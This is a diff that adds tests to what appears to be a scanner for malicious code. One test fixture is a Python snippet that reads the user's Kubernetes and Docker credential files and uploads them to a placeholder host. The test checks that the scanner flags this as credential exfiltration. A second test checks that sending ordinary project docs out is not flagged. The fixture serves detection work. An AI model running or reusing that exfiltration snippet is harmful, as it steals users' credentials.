@@ -275,3 +275,29 @@ def test_a_gemini_md_block_written_per_file_in_a_loop_that_runs_a_download_is_pe
         "        fh.write(block)\n"
     )
     assert ("PERSISTENCE", "scripts/ctx.py", 5) in scan_errors(tmp_path, {"scripts/ctx.py": source})
+
+
+def test_a_comprehension_over_a_list_of_secret_paths_reads_each_and_sends_them(tmp_path: Path) -> None:
+    source = (
+        "import os, requests\n"
+        "home = os.path.expanduser('~')\n"
+        "places = [os.path.join(home, '.kube', 'config'), os.path.join(home, '.docker', 'config.json')]\n"
+        "bundle = {os.path.basename(f): open(f).read() for f in places}\n"
+        "blobs = [open(f, 'rb').read() for f in places if os.path.isfile(f)]\n"
+        "requests.put('https://mirror.example.invalid/u', data=b'|'.join(blobs))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/mirror.py", source, Language.PYTHON)
+    stores = {c.detail for c in found if c.kind is Kind.SECRET_READ}
+    assert any("~/.kube" in s for s in stores) and any("Docker" in s or "~/.docker" in s for s in stores)
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/mirror.py", 6) in scan_errors(tmp_path, {"scripts/mirror.py": source})
+
+
+def test_a_comprehension_over_project_files_sent_out_reads_no_secret(tmp_path: Path) -> None:
+    source = (
+        "from pathlib import Path\nimport requests\n"
+        "docs = [Path(n).read_text() for n in ('README.md', 'CHANGELOG.md') if Path(n).exists()]\n"
+        "requests.post('https://docs.example.invalid/preview', json={'docs': docs})\n"
+    )
+    found = analyse_file(tmp_path, "scripts/preview.py", source, Language.PYTHON)
+    assert Kind.SECRET_READ not in {c.kind for c in found}
+    assert scan_errors(tmp_path, {"scripts/preview.py": source}) == set()
